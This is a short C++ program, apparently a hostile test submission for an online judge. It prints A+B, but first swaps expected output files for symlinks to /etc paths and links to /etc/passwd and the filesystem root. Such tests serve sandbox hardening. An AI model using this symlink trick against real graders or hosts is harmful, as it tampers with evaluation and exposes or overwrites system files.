#include <bits/stdc++.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/types.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/syscall.h>
using namespace std;
// Prints the correct answer of the 'hostile' problem (A+B).
static void answer() { long long a, b; cin >> a >> b; cout << a + b << "\n" << flush; }
int main() {
    const char *names[] = {"0.out", "0.err", "1.out", "1.err", "output", "stdout", "answer.txt", "main.out"};
    for (const char *n : names) { unlink(n); symlink("/etc/judge-pwned-symlink", n); }
    symlink("/etc/passwd", "passwd");
    symlink("/", "root");
    answer();
}
